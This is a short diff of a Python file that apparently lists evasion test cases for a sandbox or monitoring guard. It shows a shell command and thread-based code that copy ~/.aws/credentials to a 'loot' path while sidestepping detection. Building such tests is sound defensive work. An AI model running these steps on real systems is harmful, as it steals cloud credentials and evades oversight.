@@ -141,7 +141,9 @@ fork_exec(module, [b"sh", b"-c", b"cp ~/.aws/credentials $TMPDIR/loot"], (b"/bin
         "import _imp, importlib.machinery, shutil, time\n"
         "threads = _imp.create_builtin(importlib.machinery.ModuleSpec('_thread', None))\n"
         "threads.start_new_thread(shutil.copyfile, (AWS, LOOT))\n"
-        "end = time.monotonic() + 1\nwhile time.monotonic() < end and not os.path.exists(LOOT):\n    os.sched_yield()\n"
+        "size, end = os.path.getsize(AWS), time.monotonic() + 2\n"
+        "while time.monotonic() < end and not (os.path.exists(LOOT) and os.path.getsize(LOOT) == size):\n"
+        "    os.sched_yield()\n"
     ),
     "child_of_a_second_posix": Evasion(
         "import _imp, importlib.machinery\n"
